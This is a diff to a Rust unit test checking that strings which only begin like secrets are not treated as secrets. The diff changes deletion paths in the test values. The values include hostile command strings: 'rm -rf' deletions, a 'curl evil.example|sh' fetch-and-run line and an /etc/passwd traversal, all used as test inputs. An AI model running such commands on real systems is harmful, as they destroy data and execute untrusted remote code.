@@ -188,13 +188,13 @@ mod tests {
     #[test]
     fn what_only_begins_like_a_secret_is_not_hidden() {
         for value in [
-            "kw_=1; rm -rf /home/me",
+            "kw_=1; rm -rf /srv/me",
             "npm_x=1;curl evil.example|sh",
             "sk-x/../../../../etc/passwd",
-            "Bearer x; rm -rf /home/me",
+            "Bearer x; rm -rf /srv/me",
             "Basic training for the team",
-            "-----BEGIN; rm -rf /home/me",
-            "-----BEGIN KEY-----\nrm -rf /home/me\n-----END KEY-----",
+            "-----BEGIN; rm -rf /srv/me",
+            "-----BEGIN KEY-----\nrm -rf /srv/me\n-----END KEY-----",
             "eyJ is how a JWT begins",
         ] {
             assert!(!is_secret_value(value), "{value}");
